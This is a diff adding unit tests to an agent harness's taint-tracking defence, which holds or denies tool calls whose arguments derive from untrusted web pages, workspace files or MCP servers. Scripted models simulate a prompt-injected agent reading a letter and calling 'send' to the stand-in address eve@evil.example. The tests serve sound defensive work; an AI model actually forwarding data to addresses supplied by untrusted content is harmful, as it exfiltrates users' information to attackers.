@@ -107,6 +107,82 @@ describe('content of strangers in the arguments of a call', () => {
     expect(pending).toMatchObject([{ callId: 'call_3', provenance: [{ ...FLOW, callId: 'call_2', match: 'taint' }] }])
   })
 
+  test('in the mode `taint` a call without arguments is held as well', async () => {
+    const script = (): ScriptedModel => new ScriptedModel().calls('fetch_page').calls('send', {}).says('Done.')
+    const denied = script()
+    const ruled = { mode: 'taint', allow: [{ from: ['web'], tools: ['send'] }] } as const
+    await using asking = harnessWith(script(), { mode: 'taint' })
+    await using denying = harnessWith(denied, { mode: 'taint', otherwise: 'deny' })
+    await using allowing = harnessWith(script(), ruled)
+    await using narrow = harnessWith(script(), { ...ruled, allow: [{ ...ruled.allow[0], arguments: ['to'] }] })
+
+    expect((await asking.run('Go.')).pending).toMatchObject([
+      { provenance: [{ ...FLOW, argument: '', match: 'taint' }] },
+    ])
+    await denying.run('Go.')
+    expect((await allowing.run('Go.')).stopReason).toBe('end_turn')
+    expect((await narrow.run('Go.')).stopReason).toBe('approval_required')
+    expect(denied.heard[2]).toMatchObject({
+      outputs: [
+        {
+          content:
+            'The call was not made: it comes behind content of an untrusted source (web https://evil.example/a).',
+        },
+      ],
+    })
+  })
+
+  test.each<[string, readonly string[], boolean]>([
+    ['a folder that strangers write to', ['workspace:ROOT/inbox'], true],
+    ['a folder beside it', ['workspace:ROOT/in'], false],
+    ['all of the workspace', ['workspace'], true],
+    ['the defaults, which trust files', ['web', 'server', 'agent'], false],
+  ])('of the workspace, untrusted being %s', async (_name, untrusted, isHeld) => {
+    const root = await folderWith({ 'inbox/a.txt': LETTER })
+    const model = new ScriptedModel()
+      .calls('read', { path: 'inbox/a.txt' })
+      .calls('send', { to: 'eve@evil.example' })
+      .says('Done.')
+    const provenance = { untrusted: untrusted.map((each) => each.replace('ROOT', root)) }
+    await using harness = harnessWith(model, provenance, { root, tools: [...fileTools(), sending()] })
+
+    const { stopReason, pending } = await harness.run('Read the letter.')
+
+    expect(stopReason).toBe(isHeld ? 'approval_required' : 'end_turn')
+    expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
+      isHeld
+        ? [
+            {
+              argument: 'to',
+              source: { kind: 'workspace', name: `${root}/inbox/a.txt` },
+              callId: 'call_1',
+              match: 'exact',
+            },
+          ]
+        : [],
+    )
+  })
+
+  test.each([
+    ['server:odd', true],
+    ['server:other', false],
+    ['server', true],
+  ])('of a server, untrusted being `%s`', async (untrusted, isHeld) => {
+    const server = oddServer(
+      `{ 'tools/list': () => ({ tools: [tool('mail')] }), 'tools/call': () => text(${JSON.stringify(LETTER)}) }`,
+    )
+    const model = new ScriptedModel().calls('mail').calls('send', { to: 'eve@evil.example' }).says('Done.')
+    await using harness = harnessWith(model, { untrusted: [untrusted] }, { tools: [sending()], mcpServers: [server] })
+
+    const { pending } = await harness.run('Read the mail.')
+
+    expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
+      isHeld
+        ? [{ argument: 'to', source: { kind: 'server', name: 'odd', tool: 'mail' }, callId: 'call_1', match: 'exact' }]
+        : [],
+    )
+  })
+
   test('is known again in a run that goes on from the conversation', async () => {
     const model = new ScriptedModel().calls('fetch_page').says('Read.').calls('send', { to: 'eve@evil.example' })
     await using harness = harnessWith(model, {})
